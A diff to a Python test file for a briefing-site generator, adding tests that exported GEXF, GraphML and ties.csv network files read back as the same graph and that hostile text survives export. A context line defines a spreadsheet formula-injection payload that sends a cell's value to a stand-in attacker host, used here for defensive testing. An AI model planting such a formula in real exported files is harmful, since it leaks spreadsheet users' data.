@@ -21,19 +21,21 @@ from pathlib import Path
 import bibtexparser
 import feedparser
 import jsonschema
+import networkx as nx
 import pytest
 import yaml
 from bibtexparser.middlewares import LatexDecodingMiddleware
 from followthemoney import model as ftm_model
 
 from conftest import REPO, make_project, serve_folder
-from generator import cli, export, offline, pipeline, site, tables
+from generator import cli, export, network, offline, pipeline, site, tables
 from test_bad_inputs import ACCEPTED, MINI_SEEDS, lay_over
 
 CSL_SCHEMA = Path(__file__).resolve().parent / "vendor" / "csl" / "csl-data.json"
 DATA_FILES = [
     "data/briefing.json", "data/briefing.schema.json", "data/actors.csv", "data/quotes.csv", "data/stances.csv",
     "data/events.csv", "data/entities.ftm.jsonl", "data/sources.bib", "data/sources.csl.json", "feed.xml",
+    "data/ties.csv", "data/network.gexf", "data/network.graphml",
 ]
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
@@ -132,6 +134,26 @@ def test_csv_tables_parse_and_match_the_model(seed):
     assert (project.docs / "data" / "actors.csv").read_bytes().startswith(b"\xef\xbb\xbfid,name,type")
 
 
+def test_network_files_read_back_as_the_graph_the_site_draws(seed):
+    """GEXF and GraphML read by networkx, ties.csv by csv: the same nodes, edges and attributes."""
+    project, briefing = seed
+    graph = network.build_network(briefing)
+    assert graph.number_of_edges() > 0
+    expected = sorted((u, v, d["type"], d["weight"], d["articles"]) for u, v, d in graph.edges(data=True))
+    for name in ("network.gexf", "network.graphml"):
+        read_back = (nx.read_gexf if name.endswith("gexf") else nx.read_graphml)(project.docs / "data" / name)
+        assert sorted(read_back.nodes) == sorted(graph.nodes), name
+        tie = "tie" if name.endswith("gexf") else "type"  # GEXF keeps an edge's `type` for its direction
+        found = sorted((*sorted((u, v)), d[tie], int(d["weight"]), d["articles"]) for u, v, d in read_back.edges(data=True))
+        assert found == expected, name
+        assert read_back.nodes["viktor-ivanov"]["label"] == "Viktor Ivanov"
+    ties = rows(project, "ties.csv")
+    assert sorted((r["source"], r["target"], r["type"], int(r["weight"]), " ".join(r["articles"].split("; ")))
+                  for r in ties) == expected
+    newest = max(a.date.start for a in briefing.articles)
+    assert f'lastmodifieddate="{newest.year:04d}-' in read(project, "data/network.gexf")  # not today's date
+
+
 def test_ftm_entities_validate_and_match_the_model(seed):
     project, briefing = seed
     entities = [json.loads(line) for line in read(project, "data/entities.ftm.jsonl").splitlines()]
@@ -205,6 +227,10 @@ def test_hostile_text_round_trips_in_json_csv_bibtex_and_feed(hostile):
     parsed = feedparser.parse((project.docs / "feed.xml").read_bytes())
     entry = next(e for e in parsed.entries if e.link.endswith(f"/{article.id}/"))
     assert (entry.title, entry.content[0].value) == (article.headline, article.summary)
+    ties = [r for r in rows(project, "ties.csv") if "evil-corp" in (r["source"], r["target"])]
+    assert ties and all(evil.name in (r["source_name"], r["target_name"]) for r in ties)
+    assert nx.read_graphml(project.docs / "data" / "network.graphml").nodes["evil-corp"]["label"] == evil.name
+    assert nx.read_gexf(project.docs / "data" / "network.gexf").nodes["evil-corp"]["label"] == evil.name
     front = read(project, f"articles/{article.id}.md").split("---\n")[1]
     assert yaml.safe_load(front)["citation_title"] == article.headline
 
